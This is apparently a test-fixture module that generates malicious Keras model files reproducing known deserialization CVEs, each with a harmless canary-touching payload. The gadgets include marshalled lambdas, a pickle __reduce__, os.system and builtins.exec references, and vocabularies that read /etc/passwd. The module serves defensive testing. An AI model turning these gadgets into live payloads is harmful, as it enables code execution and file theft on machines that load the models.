"""Known ways in which a Keras file runs, imports or opens something on loading; each a layer.

CVE-2024-3660, CVE-2025-1550, CVE-2025-8747, CVE-2025-9905, CVE-2025-9906, CVE-2025-12058,
CVE-2025-12060 and their relatives. What runs leaves a file: the canary.
"""

from __future__ import annotations

import base64
import json
import marshal
import pickle
import zipfile
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path
from typing import Any

import h5py

from making.keras.files import write_archive, write_legacy

Entry = dict[str, Any]
LSTM = {"kernel": (5, 12), "recurrent_kernel": (3, 12), "bias": (12,)}


def entry(class_name: str, module: str | None = "keras.layers", /, **config: object) -> Entry:
    made: Entry = {"class_name": class_name, "module": module, "registered_name": None}
    return {**made, "config": {"name": class_name.lower(), **config}}


def function(module: str | None, name: str) -> Entry:
    made: Entry = {"class_name": "function", "module": module, "config": name}
    return {**made, "registered_name": name}


def code(canary: Path) -> str:
    """A lambda that leaves the canary, as Keras keeps one."""
    text = f"lambda x: (__import__('builtins').open({str(canary)!r}, 'a').close(), x)[1]"
    return base64.b64encode(marshal.dumps(eval(text).__code__)).decode()  # noqa: S307 - our own text


def old_lambda(canary: Path) -> Entry:
    return entry(
        "Lambda",
        function=[code(canary), None, None],
        function_type="lambda",
        module="__main__",
        output_shape=None,
        output_shape_type="raw",
        output_shape_module=None,
        arguments={},
    )


def new_lambda(canary: Path) -> Entry:
    payload = {"code": code(canary), "defaults": None, "closure": None}
    return entry("Lambda", function={"class_name": "__lambda__", "config": payload}, arguments={})


def named_lambda(module: str | None, name: str, **arguments: object) -> Entry:
    return entry(
        "Lambda",
        function=function(module, name),
        function_type="function",
        module=None,
        output_shape=None,
        output_shape_type="raw",
        output_shape_module=None,
        arguments=arguments,
    )


class _Touch:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (str(self.canary), "a")


def torch_module(canary: Path) -> Entry:
    payload = base64.b64encode(pickle.dumps(_Touch(canary))).decode()
    return entry("TorchModuleWrapper", module=payload)


def inside(outer: str, key: str, inner: Entry) -> Entry:
    return entry(outer, **{key: inner})


def dense(**settings: object) -> Entry:
    return entry("Dense", **{"units": 2, **settings})


def with_constant(canary: Path) -> Entry:
    made = named_lambda("os", "system")
    return made | {"inbound_nodes": [[["_CONSTANT_VALUE", -1, f"touch {canary}", {}]]]}


GADGETS: Mapping[str, Callable[[Path], Entry]] = {
    "marshalled lambda": old_lambda,
    "lambda of Keras 3": new_lambda,
    "function of os on a constant": with_constant,
    "constant alone": lambda canary: (
        dense() | {"inbound_nodes": [[["_CONSTANT_VALUE", -1, f"touch {canary}", {}]]]}
    ),
    "function of builtins": lambda _: named_lambda("builtins", "exec"),
    "function of keras.utils": lambda canary: named_lambda(
        "keras.utils", "get_file", origin=f"file://{canary}", fname="x", extract=True
    ),
    "safe mode switched off": lambda _: named_lambda(
        "keras.config", "enable_unsafe_deserialization"
    ),
    "function of Keras' own source": lambda _: named_lambda(
        "keras.src.utils.python_utils", "func_load"
    ),
    "function by its registration": lambda _: dense(
        activation=function("keras.activations", "relu") | {"registered_name": "system"}
    ),
    "function as activation": lambda _: dense(activation=function("os", "system")),
    "function as initializer": lambda _: dense(kernel_initializer=function("builtins", "exec")),
    "activation by a foreign name": lambda _: dense(activation="os.system"),
    "lambda as activation": lambda canary: dense(
        activation=new_lambda(canary)["config"]["function"]
    ),
    "module of the file's choice": lambda _: dense() | {"module": "canary_module"},
    "private module of Keras": lambda _: dense() | {"module": "keras.src.saving.saving_lib"},
    "registered class": lambda _: dense() | {"registered_name": "Custom>Dense"},
    "class of a package": lambda _: dense() | {"class_name": "Custom>Dense"},
    "class inside a class": lambda _: dense() | {"class_name": "Dense.call"},
    "class without a name": lambda _: dense() | {"class_name": ["Dense"]},
    "unknown class": lambda _: entry("CustomMaskWarning", "keras.utils"),
    "torch module": torch_module,
    "jax": lambda _: entry("JaxLayer", call_fn=function("os", "system")),
    "flax": lambda _: entry("FlaxLayer", module=function("os", "system")),
    "saved model": lambda canary: entry("TFSMLayer", filepath=str(canary), call_endpoint="serve"),
    "function of tensorflow": lambda canary: entry(
        "TFOpLambda", function="io.write_file", arguments=[str(canary)]
    ),
    "slicing of tensorflow": lambda _: entry("SlicingOpLambda", function="__operators__.getitem"),
    "method": lambda _: entry("ClassMethod", cls_ref="os", function="system"),
    "residual function": lambda canary: entry(
        "ResidualWrapper", residual_fn=code(canary), residual_fn_type="lambda"
    ),
    "feature columns": lambda canary: entry("DenseFeatures", feature_columns=[str(canary)]),
    "strings in a file": lambda _: entry("StringLookup", vocabulary="/etc/passwd"),
    "integers in a file": lambda _: entry("IntegerLookup", vocabulary="file:///etc/passwd"),
    "text in a file": lambda _: entry("TextVectorization", vocabulary="/etc/passwd"),
    "text after an object": lambda _: entry(
        "TextVectorization",
        vocabulary={"class_name": "__bytes__", "config": {"value": "/etc/passwd"}},
    ),
    "text split by a function": lambda _: entry(
        "TextVectorization", split=function("os", "system")
    ),
    "merged by a lambda": lambda canary: entry("Merge", mode=[code(canary), None, None]),
    "nested model": lambda canary: entry(
        "Sequential", "keras", layers=[entry("Sequential", "keras", layers=[old_lambda(canary)])]
    ),
    "each step": lambda canary: inside("TimeDistributed", "layer", old_lambda(canary)),
    "two directions": lambda canary: inside("Bidirectional", "layer", old_lambda(canary)),
    "other direction": lambda canary: inside("Bidirectional", "backward_layer", new_lambda(canary)),
    "cell": lambda canary: inside("RNN", "cell", old_lambda(canary)),
    "one of the cells": lambda canary: entry(
        "RNN", cell=entry("StackedRNNCells", cells=[old_lambda(canary)])
    ),
    "operator over a function": lambda _: entry(
        "Map", "keras.src.ops.core", f=function("os", "system")
    ),
    "type of tensorflow": lambda _: dense() | {
        "class_name": "__typespec__", "spec_name": "system", "module": "os"
    },
    "array of objects": lambda _: dense(
        kernel_initializer={"class_name": "__numpy__", "config": {"value": 1, "dtype": "O"}}
    ),
    "type policy": lambda _: dense(dtype=entry("system", "os")),
    "loss when compiled": lambda canary: dense() | {
        "compile_config": {"loss": new_lambda(canary)["config"]["function"], "optimizer": "adam"}
    },
    "shape when built": lambda canary: dense() | {"build_config": {"shape": old_lambda(canary)}},
    "argument of a call": lambda canary: dense() | {
        "inbound_nodes": [{"args": [old_lambda(canary)], "kwargs": {}}]
    },
}  # fmt: skip


def model(gadget: Entry) -> Entry:
    """An LSTM, and then the gadget."""
    start = entry("InputLayer", batch_input_shape=[None, 4, 5], dtype="float32")
    recurrent = entry("LSTM", units=3, return_sequences=True)
    shaped = {"build_config": {"input_shape": [None, 4, 5]}}
    return entry("Sequential", "keras", layers=[start, recurrent | shaped, gadget])


ARRAYS = {f"layers/lstm/cell/vars/{place}": shape for place, shape in enumerate(LSTM.values())}
OLDER = {f"_layer_checkpoint_dependencies/{name[7:]}": ARRAYS[name] for name in ARRAYS}


def keras_3(path: Path, config: Entry) -> Path:
    return write_archive(path, config, ARRAYS, "3.15.0")


def keras_2(path: Path, config: Entry) -> Path:
    return write_archive(path, config, OLDER, "2.15.0")


def folder(path: Path, config: Entry) -> Path:
    """The members of an archive as files."""
    path.mkdir()
    packed = BytesIO()
    with zipfile.ZipFile(keras_3(path / "packed", config)) as archive:
        archive.extractall(path)
    packed.close()
    (path / "packed").unlink()
    return path


def hdf5(path: Path, config: Entry) -> Path:
    """An HDF5 file of Keras 2, whose entries have no modules."""
    named = {f"lstm/{name}:0": shape for name, shape in LSTM.items()}
    write_legacy(path, config, {"lstm": named})
    with h5py.File(path, "a") as file:
        file.attrs["keras_version"] = "2.15.0"
    return path


def training(path: Path, config: Entry) -> Path:
    """An HDF5 file whose model is plain, and whose training is configured by the gadget."""
    hdf5(path, model(dense()))
    with h5py.File(path, "a") as file:
        file.attrs["training_config"] = json.dumps({"loss": config["config"]["layers"][-1]})
    return path


def compiled(path: Path, config: Entry) -> Path:
    """An archive whose model is plain, and compiled with the gadget."""
    plain = model(dense())
    return keras_3(path, plain | {"compile_config": {"loss": config["config"]["layers"][-1]}})


CONTAINERS: Mapping[str, Callable[[Path, Entry], Path]] = {
    "keras 3": keras_3,
    "keras 2": keras_2,
    "folder": folder,
    "hdf5": hdf5,
    "training": training,
    "compiled": compiled,
}
